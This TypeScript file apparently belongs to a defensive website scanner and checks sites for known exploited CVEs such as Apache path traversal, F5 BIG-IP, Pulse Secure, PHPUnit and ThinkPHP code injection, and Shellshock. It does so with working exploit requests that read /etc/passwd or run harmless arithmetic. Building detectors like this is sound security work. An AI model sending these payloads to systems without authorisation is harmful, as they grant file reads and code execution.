import type { Exchange } from '../ground/exchange.ts';
import { ifAnswered } from '../net/requestError.ts';
import type { Ask, Observation, Prober, SiteCheck } from './check.ts';
import { newProduct } from './evaluation.ts';
import { fileIn } from './pathTraversal/check.ts';

/** A published flaw of one product: a harmless request, and the answer that only a flawed one gives. */
interface Probe {
  cve: string;
  product: string;
  ask(origin: string): Ask;
  proves(answer: Exchange): boolean;
}

const get =
  (path: string, headers = {}) =>
  (origin: string): Ask => ({ method: 'GET', url: origin + path, headers, anonymous: true });
const showsPasswd = (answer: Exchange) => fileIn(answer.response.body)?.file === '/etc/passwd';

function probes(): Probe[] {
  const product = newProduct();
  const shows = (answer: Exchange) => product.isIn(answer.response.body);
  return [
    {
      cve: 'CVE-2021-41773',
      product: 'Apache 2.4.49',
      ask: get('/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
      proves: showsPasswd,
    },
    {
      cve: 'CVE-2021-42013',
      product: 'Apache 2.4.50',
      ask: get('/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd'),
      proves: showsPasswd,
    },
    {
      cve: 'CVE-2021-43798',
      product: 'Grafana',
      ask: get(`/public/plugins/alertlist/..${'/..'.repeat(9)}/etc/passwd`),
      proves: showsPasswd,
    },
    {
      cve: 'CVE-2017-9841',
      product: 'PHPUnit',
      ask: (origin) => ({
        method: 'POST',
        url: `${origin}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`,
        headers: { 'content-type': 'text/plain' },
        body: `<?php echo ${product.left}*${product.right};`,
        anonymous: true,
      }),
      proves: shows,
    },
    {
      cve: 'CVE-2018-20062',
      product: 'ThinkPHP',
      ask: get(
        `/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=printf&vars[1][]=%25d&vars[1][]=${product.left * product.right}x`,
      ),
      proves: (answer) =>
        answer.response.body.trimStart().startsWith(`${product.left * product.right}`) &&
        !answer.response.body.includes('vars'),
    },
    {
      cve: 'CVE-2023-23752',
      product: 'Joomla 4.2.7',
      ask: get('/api/index.php/v1/config/application?public=true'),
      proves: ({ response }) =>
        /^\s*\{"links"[\s\S]{0,5000}"(?:password|dbtype)"/.test(response.body),
    },
    {
      // By its version: who writes the posts is listed by every one until today.
      cve: 'CVE-2017-1001000',
      product: 'WordPress before 4.7.2',
      ask: get('/feed/'),
      proves: ({ response }) =>
        /wordpress\.org\/\?v=4\.7(?:\.[01])?<\/generator>/.test(response.body),
    },
    {
      cve: 'CVE-2021-3129',
      product: 'Laravel Ignition',
      ask: get('/_ignition/health-check'),
      proves: ({ response }) => /^\s*\{"can_execute_commands":true\}/.test(response.body),
    },
    {
      cve: 'CVE-2018-7600',
      product: 'Drupal 7 before 7.58',
      ask: get('/CHANGELOG.txt'),
      proves: ({ response }) => Number(/^\s*Drupal 7\.(\d+), /.exec(response.body)?.[1] ?? 99) < 58,
    },
    {
      cve: 'CVE-2022-22947',
      product: 'Spring Cloud Gateway',
      ask: get('/actuator/gateway/routes'),
      proves: ({ response }) => /^\s*\[[\s\S]{0,3000}"(?:route_id|predicate)"/.test(response.body),
    },
    {
      cve: 'CVE-2020-5902',
      product: 'F5 BIG-IP',
      ask: get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'),
      proves: showsPasswd,
    },
    {
      cve: 'CVE-2019-11510',
      product: 'Pulse Connect Secure',
      ask: get(
        '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/',
      ),
      proves: showsPasswd,
    },
  ];
}

const commonGateway = /\/cgi-bin\/.|\.(?:cgi|sh)(?:$|\/)/i;
const maxCommonGateway = 5;

/** Bash took what stood behind a function in a variable for a command; the Common Gateway Interface sets them from headers. */
function shellshock(url: string): Probe {
  const product = newProduct();
  const told = `echo Content-Type: text/plain; echo; echo $((${product.left}*${product.right}))`;
  return {
    cve: 'CVE-2014-6271',
    product: 'Bash before 4.3 patch 25',
    ask: () => ({
      method: 'GET',
      url,
      headers: { 'user-agent': `() { :; }; ${told}` },
      anonymous: true,
    }),
    proves: ({ response }) => product.isIn(response.body),
  };
}

export const cveProbes: SiteCheck = {
  id: 'cve-probes',
  kind: 'site',
  asksOnly: true,
  title: 'Your site runs a program with a published weakness that is being used',
  technicalName: 'Known exploited vulnerability',
  severity: 'high',
  cwe: 'CWE-1395',
  pci: ['6.3.3'],
  minLevel: 'full',
  advice: {
    risk: 'How to use it is public, and programs try it on every site of the world: it is a matter of days.',
    fix: 'Update the product that the evidence names to a version without this flaw, and look for signs that somebody has already been in.',
    references: ['CISA Known Exploited Vulnerabilities Catalog', 'CWE-1395'],
  },
  async inspect(site, prober) {
    const found = [];
    const scripts = [...site.addresses].filter((url) => commonGateway.test(new URL(url).pathname));
    const asked = [...probes(), ...scripts.slice(0, maxCommonGateway).map(shellshock)];
    for (const probe of asked) found.push(...(await at(site.origin, probe, prober)));
    return found;
  },
};

async function at(
  origin: string,
  { cve, product, ask, proves }: Probe,
  prober: Prober,
): Promise<Observation[]> {
  return ifAnswered(async () => {
    const answer = await prober.ask(ask(origin));
    if (answer.response.status >= 400 || !proves(answer)) return [];
    // A site that shows the same to any address proves nothing.
    const control = await prober.get(`/${prober.canary()}`);
    if (proves(control)) return [];
    const { method, url } = answer.request;
    const evidence = `${method} ${url} is answered as only ${product} with ${cve} answers it.`;
    const title = `Your site runs ${product}, which has a published weakness`;
    return [{ method, url, cause: cve, title, evidence, confidence: 'firm' }];
  }, []);
}
